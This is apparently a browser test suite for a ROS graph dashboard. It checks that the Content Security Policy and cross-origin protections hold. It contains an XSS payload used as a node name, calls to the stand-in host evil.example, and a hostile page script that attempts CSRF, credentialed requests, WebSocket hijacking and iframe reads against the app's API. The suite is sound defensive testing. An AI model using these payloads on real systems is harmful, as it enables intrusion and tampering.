"""The page in a real browser: what a person sees, and what a hostile page does not get."""

import asyncio
import contextlib

import pytest
from elsewhere import Elsewhere
from pages import MISSING, browsing, open_page

pytestmark = [pytest.mark.slow, pytest.mark.skipif(bool(MISSING), reason=MISSING)]


@pytest.fixture
def elsewhere():
    """Make servers on other ports: a hostile page, or a proxy for all that leaves this machine."""
    with contextlib.ExitStack() as servers:
        yield lambda page="": servers.enter_context(Elsewhere(page))


def test_two_graphs_are_shown_survive_their_restart_and_nothing_leaves_the_machine(
        fed, spoken, ros_loop, elsewhere):
    from sensor_msgs.msg import Image

    dying = ros_loop.node("b", namespace="/one")
    dying.create_publisher(Image, "/one/a_camera_of_the_robot_with_a_long_name/image_raw", 1)
    first = spoken("/one", ["a", "b"], ["a/x → b/y", "b/z → a/back"])
    second = spoken("/two", ["d", "<img src=https://evil.example/x onerror=alert(1)>"],
                    ["https://evil.example → d/in"])
    complaints = []

    async def talk(visit, feed):
        proxy = elsewhere()
        async with browsing(proxy.url, viewport={"width": 320, "height": 700}) as window:
            speaking = [asyncio.create_task(each.go_on()) for each in (first, second)]
            page = await open_page(window, visit, complaints)
            await page.get_by_role("region", name="Graph /one").wait_for()
            await page.get_by_role("region", name="Graph /two").wait_for()
            cell = page.get_by_role("button", name="/one: a", exact=True)
            await cell.wait_for()
            await page.get_by_role("tab", name="Pictures").click()
            await page.get_by_text("with_a_long_name").first.wait_for()
            for tab in await page.get_by_role("tab").all():
                await tab.click()
                assert await page.evaluate("document.documentElement.scrollWidth") == 320
            await page.get_by_role("tab", name="Overview").click()
            assert await page.locator("img[src*=evil]").count() == 0
            assert "token" not in page.url
            # It dies, which is shown, and comes back with other nodes.
            speaking[0].cancel()
            dying.get_logger().error("the motor is gone")
            await page.get_by_text("silent for").first.wait_for()
            await page.get_by_text("/one/b: the motor is gone").first.wait_for()
            first.nodes.append("late")
            speaking[0] = asyncio.create_task(first.go_on())
            await page.get_by_role("button", name="/one: late", exact=True).wait_for()
            await page.get_by_text("silent for").first.wait_for(state="detached")
            # A graph is put away, and the rest is by the keyboard.
            await page.get_by_role("button", name="/two", exact=True).click()
            await page.get_by_role("region", name="Graph /two").wait_for(state="detached")
            await page.locator("canvas").nth(1).focus()
            await page.keyboard.press("ArrowRight")
            await page.get_by_role("status").filter(has_text="items/s in").wait_for()
            # Whatever its scripts were brought to do, the browser refuses to ask elsewhere.
            for text in ("fetch('https://evil.example/')", "new WebSocket('wss://evil.example/')",
                         "void (new Image().src = 'https://evil.example/')",
                         "import('https://evil.example/x.js')"):
                await page.evaluate(f"(async () => {{ try {{ await {text} }} catch {{}} }})()")
            for each in speaking:
                each.cancel()
            return proxy.requests

    assert fed(talk) == []
    refused = [text for text in complaints if "evil.example" in text]
    assert len(refused) >= 4 and all("Content Security Policy" in text for text in refused)
    # Nobody is behind these graphs whom the page could ask whether they are paused.
    assert not [text for text in complaints if text not in refused and "409" not in text]


def test_a_slider_sets_the_parameter_of_a_node_and_a_log_line_is_found(fed, spoken, ros_loop):
    from rcl_interfaces.msg import FloatingPointRange, ParameterDescriptor

    node = ros_loop.node("a", namespace="/g")
    node.declare_parameter("gain", 1.0, ParameterDescriptor(floating_point_range=[
        FloatingPointRange(from_value=0.0, to_value=10.0)]))
    node.declare_parameter("fixed", "x", ParameterDescriptor(
        read_only=True, additional_constraints="Fixed while the graph runs: it is read once."))
    graph, complaints = spoken("/g", ["a"], []), []

    async def talk(visit, feed):
        async with browsing(color_scheme="dark") as window:
            speaking = asyncio.create_task(graph.go_on())
            page = await open_page(window, visit, complaints)
            await page.get_by_role("tab", name="Parameters").click()
            slider = page.get_by_role("slider", name="gain, slider")
            await slider.focus()
            await page.keyboard.press("End")
            await ros_loop.until(lambda: node.get_parameter("gain").value == 10.0)
            await page.get_by_text("it is read once").wait_for()
            # Set from elsewhere, it is seen here.
            from rclpy.parameter import Parameter
            node.set_parameters([Parameter("gain", value=2.5)])
            field = page.get_by_label("gain", exact=True)
            while await field.input_value() != "2.5":
                await asyncio.sleep(0.05)
            node.get_logger().warn("too warm")
            await page.get_by_role("tab", name="Log").click()
            await page.get_by_text("WARN /g/a: too warm").wait_for()
            await page.get_by_label("Words").fill("cold")
            await page.get_by_text("No lines.").wait_for()
            await page.reload()
            await page.get_by_role("tab", name="Log").click()
            await page.get_by_text("too warm").wait_for()
            speaking.cancel()

    fed(talk)
    assert not complaints


HOSTILE = """<!doctype html><title>hostile</title><script>
const base = "BASE";
const got = [];
async function attack() {
  const tries = {
    get: () => fetch(base + "/api/parameters?node=/g/a", { credentials: "include" }),
    blind: () => fetch(base + "/api/stop", { method: "POST", mode: "no-cors",
      credentials: "include", body: '{"graph": "/g"}' }),
    set: () => fetch(base + "/api/parameters", { method: "POST", credentials: "include",
      headers: { "Content-Type": "application/json" },
      body: '{"node": "/g/a", "name": "gain", "value": 9}' }),
    socket: () => new Promise((resolve, reject) => {
      const socket = new WebSocket(base.replace("http", "ws") + "/api/feed");
      socket.onmessage = () => resolve({ type: "open" });
      socket.onclose = reject;
    }),
    script: () => new Promise((resolve, reject) => document.head.append(Object.assign(
      document.createElement("script"), { src: base + "/main.js", onload: resolve,
        onerror: reject }))),
    picture: () => new Promise((resolve, reject) => Object.assign(new Image(), {
      src: base + "/icon.svg", onload: resolve, onerror: reject })),
  };
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      const answer = await attempt();
      if (answer.type !== "opaque") got.push(name);
    } catch {}
  }
  const frame = document.createElement("iframe");
  frame.src = base + "/";
  document.documentElement.append(frame);
  await new Promise(resolve => frame.onload = resolve);
  try { if (frame.contentDocument?.title) got.push("frame"); } catch {}
  const form = Object.assign(document.createElement("form"), { method: "POST",
    action: base + "/api/stop", enctype: "text/plain" });
  form.append(Object.assign(document.createElement("input"), { name: '{"graph": "/g", "x": "',
    value: '"}' }));
  document.documentElement.append(form);
  await fetch("/got?" + (got.join() || "nothing"), { method: "POST" });
  form.submit();
}
attack();
</script>"""


def test_a_hostile_page_on_another_port_gets_nothing_and_changes_nothing(
        fed, spoken, ros_loop, elsewhere, monkeypatch):
    from dnne_ros.web.feed import part

    stopped = []
    monkeypatch.setattr(part, "stop_graph", lambda graph, domain: stopped.append(graph))
    node = ros_loop.node("a", namespace="/g")
    node.declare_parameter("gain", 1.0)
    graph = spoken("/g", ["a"], [])

    async def talk(visit, feed):
        hostile = elsewhere(HOSTILE.replace("BASE", visit.base))
        async with browsing() as window:
            speaking = asyncio.create_task(graph.go_on())
            page = await open_page(window, visit, [])
            await page.get_by_role("region", name="Graph /g").wait_for()  # so there is a cookie
            other = await window.new_page()
            # The form's answer is what the page shows in the end.
            answers = []
            other.on("response", lambda answer: answers.append((answer.url, answer.status)))
            await other.goto(hostile.url)
            await ros_loop.until(lambda: any(url.endswith("/api/stop") for url, _ in answers))
            speaking.cancel()
            return hostile.requests, [answer for answer in answers if visit.base in answer[0]]

    requests, answers = fed(talk)
    assert not stopped and node.get_parameter("gain").value == 1.0
    assert "POST /got?nothing HTTP/1.1" in requests
    assert {status for _, status in answers} == {403}
